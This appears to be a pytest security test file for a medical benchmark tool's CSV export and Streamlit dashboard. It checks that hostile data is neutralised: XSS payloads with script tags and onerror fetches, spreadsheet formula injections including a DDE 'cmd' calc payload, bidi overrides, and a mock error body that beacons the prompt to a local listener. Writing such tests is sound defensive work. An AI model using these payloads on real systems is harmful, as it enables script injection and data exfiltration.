"""Hostile data end to end: a hostile model server (error bodies and answers with Markdown/HTML image
beacons pointing at a local listener), hostile strings in every field a run and a summary carry (benchmark
name and description, instance ids, answers, release name), through the real pipeline and store, then:

* exports (`medhelm export`, folder and .zip) parsed back with the csv module and loaded cell by cell into
  openpyxl as a spreadsheet would: zero formula cells; every field quoted; no overwrite without --force;
* the real dashboard in headless Chromium (leaderboard, every benchmark's runs with every instance opened,
  the comparison page): zero requests reach the listener or leave the app's origin, no element is built from
  data markup (`data-hostile`), no inline handler exists, no script from data runs (no dialog, no
  `window.__pwned`), hostile model, deployment and benchmark names and instance text show as the literal
  characters, bidi overrides in names show as `⟨U+202E⟩` instead of reordering them, and every response
  carries a CSP (whose only violation is Streamlit's own inline snippet).
"""

from __future__ import annotations

import base64
import csv
import http.server
import io
import json
import subprocess
import threading
import urllib.request
import zipfile
from pathlib import Path

import pytest

from medhelm.devtools.fixtures import write_openai_deployment
from medhelm.devtools.mock_openai import MockHTTPError, MockOpenAIServer
from medhelm.safecsv import TRIGGERS
from tests.leaderboard import browser
from tests.leaderboard.helpers import run_cli

FORMULAS = ['=HYPERLINK("{L}/f","x")', "+SUM(1+1)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=2+2"]
# Markup a browser would act on if it were rendered: every element carries `data-hostile` (the page is searched
# for it), every script/handler would call the listener or set window.__pwned (both checked).
BENCH2 = "<img data-hostile src onerror>**B**<script>alert(1)<script>\u202eK"  # no / : , = (a folder)
DESC2 = ("<script data-hostile>window.__pwned=1</script> <img data-hostile src=x onerror=\"fetch('{L}/xss')\"> "
         "[click]({L}/descmd) $\\sqrt{{x}}$ \u202eTXET \x1b[31m")
MODEL2 = '=HYPERLINK("{L}/m")<img data-hostile src=x onerror=alert(1)>\u202eM'
DEPLOYMENT2 = "mock/<svg data-hostile onload=alert(2)>![d]({L}/d):red[D]\u2066I"  # run names: <= 255 bytes
NOTES = ["<script data-hostile>fetch('{L}/xss-note')</script> **note** ![n]({L}/note)",
         "<iframe data-hostile src={L}/frame></iframe> <a data-hostile href=javascript:alert(3)>x</a>",
         "=cmd|' /C calc'!A0 \u202eetoN"]


class Listener:
    """An HTTP server on 127.0.0.1 that only counts what reaches it (the exfiltration target)."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                return None

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory):
    tmp = tmp_path_factory.mktemp("hostile")
    listener = Listener()
    L = listener.origin

    def responder(body: dict) -> str:
        prompt = body["messages"][-1]["content"]
        if "ERR" in prompt:  # a hostile endpoint: the prompt, base64'd, in an image URL of its error body
            leak = base64.urlsafe_b64encode(prompt.encode()).decode()
            raise MockHTTPError(400, f"![.]({L}/leak?d={leak}) <img src=\"{L}/img\"> see {L}/err")
        return f"![o]({L}/out) [click]({L}/link) <img src={L}/img2> :red[ALERT] $x^2$ {L}/auto www.example.org"

    bench = tmp / "bench"
    bench.mkdir()
    (bench / "prompt.txt").write_text("Note: {note}\nAnswer.")
    ids = [f"![i]({L}/id)", *[f.format(L=L) for f in FORMULAS], f"<img src={L}/idimg>", ":red[id]"]
    with open(bench / "dataset.csv", "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "note", "correct_answer"])
        for i, ident in enumerate(ids):
            w.writerow([ident, f"{'ERR ' if i % 2 else ''}note {i}", FORMULAS[i % len(FORMULAS)].format(L=L)])
    desc = f"![d]({L}/desc) =HYPERLINK(\"{L}/h\") :red[BANNER] <img src={L}/descimg> {L}/descauto"
    (bench / "bench.yaml").write_text(json.dumps({
        "name": "@HOSTILE(1+1)", "description": desc, "prompt_file": "prompt.txt", "dataset_file": "dataset.csv",
        "max_tokens": 8, "metrics": ["exact_match"]}))
    # a second benchmark and a second model whose names are markup, scripts, formulas and bidi overrides
    bench2 = tmp / "bench2"
    bench2.mkdir()
    (bench2 / "prompt.txt").write_text("Note: {note}\nAnswer.")
    with open(bench2 / "dataset.csv", "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "note", "correct_answer"])
        for i, note in enumerate(NOTES):
            w.writerow([f"n{i}", note.format(L=L), "yes"])
    (bench2 / "bench.yaml").write_text(json.dumps({
        "name": BENCH2, "description": DESC2.format(L=L), "prompt_file": "prompt.txt",
        "dataset_file": "dataset.csv", "max_tokens": 8, "metrics": ["exact_match"]}))
    dep2, model2 = DEPLOYMENT2.format(L=L), MODEL2.format(L=L)
    out, local = tmp / "out", tmp / "prod_env"
    with MockOpenAIServer(responder) as model:
        write_openai_deployment(local, model.base_url, name="mock/hostile", model_name="test/hostile")
        with open(local / "model_deployments.yaml", "a") as f:  # JSON strings are YAML: quoted as they are
            f.write(f"  - name: {json.dumps(dep2)}\n    model_name: {json.dumps(model2)}\n    kind: openai\n"
                    f"    base_url: {model.base_url}\n    served_model_name: hostile\n    max_sequence_length: 4096\n")
        code, _, err = run_cli("run", "-r", f"medhelm_configurable_benchmark:model=mock/hostile,"
                               f"config_path={bench / 'bench.yaml'}",
                               f"medhelm_configurable_benchmark:model_deployment={dep2},"
                               f"config_path={bench / 'bench.yaml'}",
                               f"medhelm_configurable_benchmark:model_deployment={dep2},"
                               f"config_path={bench2 / 'bench.yaml'}", "--suite", "s", "-o", str(out),
                               "--local-path", str(local), "-q")
        model_address = model.base_url.split("//")[1].split("/")[0]
    # the hostile endpoint's 400s are recorded (the runs complete) and the run says so: exit 2
    assert code == 2 and "refused as a bad request" in err, err
    release = f"=HYPERLINK(\"{L}/rel\") ![r]({L}/rel)"
    code, _, err = run_cli("summarize", "--suites", "s", "-o", str(out), "--release", release, "--bootstrap", "50")
    assert code == 0, err
    yield {"out": out, "listener": listener, "ids": ids, "desc": desc, "release": release, "tmp": tmp,
           "model_address": model_address}
    listener.close()


def _spreadsheet_formulas(rows: list[list[str]]) -> int:
    """Cells a spreadsheet would take for formulas: openpyxl types a cell 'f' exactly when it starts with '='."""
    import openpyxl
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    ws = openpyxl.Workbook().active
    for row in rows:  # control characters (an ESC in a description) cannot be cells: dropped, as a sheet would
        ws.append([ILLEGAL_CHARACTERS_RE.sub("", v) for v in row])
    return sum(1 for row in ws.iter_rows() for cell in row if cell.data_type == "f")


def _check_csv(name: str, raw: bytes) -> int:
    text = raw.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, name
    for line in text.split("\r\n"):
        assert not line or line.startswith('"'), f"{name}: unquoted field at a line start: {line[:40]!r}"
    for row in rows:
        for value in row:
            if value.startswith(TRIGGERS):
                float(value)  # only a number may begin with - or + (it is data, not a formula)
    assert _spreadsheet_formulas(rows) == 0, name
    return len(rows)


def test_exports_are_formula_safe_and_never_overwrite(hostile):
    out = hostile["out"]
    folder, archive = out / "bundle", out / "shared.zip"
    code, _, err = run_cli("export", str(folder), "-o", str(out))
    assert code == 0, err
    rows = {p.name: _check_csv(p.name, p.read_bytes()) for p in folder.glob("*.csv")}
    assert {"models.csv", "leaderboard.csv", "cells.csv", "benchmarks.csv"} <= set(rows)
    text = (folder / "benchmarks.csv").read_text()
    assert "'@HOSTILE(1+1)" in text  # neutralised, still readable
    assert run_cli("export", str(folder), "-o", str(out))[0] == 2  # exists: refused without --force
    code, _, err = run_cli("export", str(archive), "-o", str(out), "--redact")
    assert code == 0, err
    stamp = archive.stat().st_mtime_ns
    code, _, err = run_cli("export", str(archive), "-o", str(out))
    assert code == 2 and "--force" in err and archive.stat().st_mtime_ns == stamp
    code, _, err = run_cli("export", str(archive), "-o", str(out), "--force")
    assert code == 0, err
    with zipfile.ZipFile(archive) as z:
        for name in z.namelist():
            if name.endswith(".csv"):
                _check_csv(name, z.read(name))
    other = out / "not_a_bundle"
    other.mkdir()
    (other / "keep.txt").write_text("precious")
    assert run_cli("export", str(other), "-o", str(out), "--force")[0] == 2
    assert (other / "keep.txt").read_text() == "precious"


@pytest.mark.slow
def test_dashboard_shows_hostile_data_as_text_and_sends_nothing(hostile):
    why = browser.missing_tools()
    if why:
        pytest.skip(why)
    listener = hostile["listener"]
    listener.hits.clear()
    with browser.running_app(str(hostile["out"] / "results.sqlite")) as url:
        with urllib.request.urlopen(url) as r:
            csp = r.headers.get("Content-Security-Policy", "")
        env = {**__import__("os").environ, "NODE_PATH": str(browser.NODE_CACHE / "node_modules"),
               "CHROMIUM": browser.CHROMIUM}
        done = subprocess.run(["node", str(Path(__file__).with_name("browser_hostile.js")), url, listener.origin,
                               "300000"], capture_output=True, text=True, env=env, timeout=900)
    assert done.returncode == 0, done.stderr[-800:]
    seen = json.loads(done.stdout.strip().splitlines()[-1])
    assert "default-src 'self'" in csp and "img-src 'self' data: blob:" in csp
    assert listener.hits == []  # not one request from the viewer's browser reached the listener
    assert seen["foreign"] == []  # nor anywhere else: every request stayed on the app's own origin
    assert seen["pointing"] == []  # no element points at it either (CSP aside, nothing became markup)
    assert seen["injected"] == [] and seen["handlers"] == []  # no element was built from data markup
    assert not seen["pwned"] and seen["dialogs"] == 0  # no script from data ran
    own = _streamlit_inline_script_hashes()  # the CSP blocks Streamlit's own inline snippet, and nothing else
    assert all(any(h in v for h in own) for v in seen["violationTexts"]), seen["violationTexts"]
    assert seen["benchmarks"] == 2 and seen["expanders"] >= 8
    assert {"compare 0", "benchmark 1 run 0"} <= set(seen["pages"])
    page = "\n".join(seen["texts"]).replace("\u2060", "")  # labels carry invisible joiners inside URLs
    assert f"![i]({listener.origin}/id)" in page  # an instance id, shown literally
    assert ":red[BANNER]" in page and f"![d]({listener.origin}/desc)" in page  # the description, literally
    assert "leak?d=" not in page  # the hostile error body was defanged before it was stored
    assert hostile["model_address"] not in page and "[address hidden]" in page  # no internal model URL
    # hostile model, deployment and benchmark names and instance text: the characters as written
    L = listener.origin
    shown = [BENCH2, MODEL2.format(L=L), DEPLOYMENT2.format(L=L)]
    for name in shown:  # bidi controls appear as what they are, never reordering what follows them
        plain = name.replace("\u202e", "⟨U+202E⟩").replace("\u2066", "⟨U+2066⟩")
        assert plain.removeprefix("mock/") in page, plain
    assert "\u202e" not in page.replace("\u202eetoN", "").replace("\u202eTXET", "")  # only inside instance text
    assert "\u2066" not in page
    assert "<script data-hostile>fetch(" in page and "**note**" in page and f"![n]({L}/note)" in page
    assert f"<iframe data-hostile src={L}/frame></iframe>" in page
    assert f"<img data-hostile src=x onerror=\"fetch('{L}/xss')\">" in page  # the description, as text


def _streamlit_inline_script_hashes() -> list[str]:
    """CSP hashes of the inline scripts in Streamlit's own index.html (blocked by our CSP, harmless)."""
    import hashlib
    import re

    import streamlit

    html = (Path(streamlit.__file__).parent / "static" / "index.html").read_text(encoding="utf-8")
    return ["sha256-" + base64.b64encode(hashlib.sha256(m.group(1).encode()).digest()).decode()
            for m in re.finditer(r"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", html, re.S)]


def test_dashboard_tables_download_formula_safe(hostile):
    """The grids' "Download as CSV" writes what the grid holds: hostile names arrive neutralised."""
    import os

    from streamlit.testing.v1 import AppTest

    saved = os.environ.get("MEDHELM_STORE")
    os.environ["MEDHELM_STORE"] = str(hostile["out"] / "results.sqlite")
    try:
        at = AppTest.from_file(str(Path(__file__).parents[2] / "dashboard" / "app.py"), default_timeout=60).run()
    finally:
        os.environ.pop("MEDHELM_STORE") if saved is None else os.environ.__setitem__("MEDHELM_STORE", saved)
    assert not at.exception
    cells = [str(c) for df in (d.value for d in at.dataframe) for c in
             [*df.columns, *df.index, *(v for row in df.itertuples(index=False) for v in row if isinstance(v, str))]]
    assert "'@HOSTILE(1+1)" in cells
    assert not [c for c in cells if c.startswith(TRIGGERS)]


def test_store_values_are_capped_before_they_size_an_allocation(hostile, tmp_path):
    """meta.replicates = 1e8 would ask numpy for gigabytes: one line on the page instead, no traceback."""
    import os
    import shutil
    import sqlite3

    from streamlit.testing.v1 import AppTest

    store = tmp_path / "results.sqlite"
    shutil.copy(hostile["out"] / "results.sqlite", store)
    with sqlite3.connect(store) as conn:
        assert conn.execute("UPDATE meta SET value = '100000000' WHERE key = 'replicates'").rowcount == 1
    saved = os.environ.get("MEDHELM_STORE")
    os.environ["MEDHELM_STORE"] = str(store)
    try:
        at = AppTest.from_file(str(Path(__file__).parents[2] / "dashboard" / "app.py"), default_timeout=60).run()
    finally:
        os.environ.pop("MEDHELM_STORE") if saved is None else os.environ.__setitem__("MEDHELM_STORE", saved)
    assert not at.exception
    assert "replicates" in at.error[0].value and "out of range" in at.error[0].value


def test_formatted_numbers_stay_as_written_and_expressions_are_neutralised():
    from medhelm.safecsv import neutralize
    for shown in ("-0.007", "-0.007 [-0.574, 0.553]", "+5%", "-1e-05", "0.5"):
        assert neutralize(shown) == shown
    for formula in ("-2+3", "=1+1", "-HYPERLINK(\"http://x\")", "+A1", "@SUM(1)", "-0.1 [-0.2, 0.3]x", "\t=1"):
        assert neutralize(formula) == "'" + formula
    assert neutralize(-0.5) == -0.5
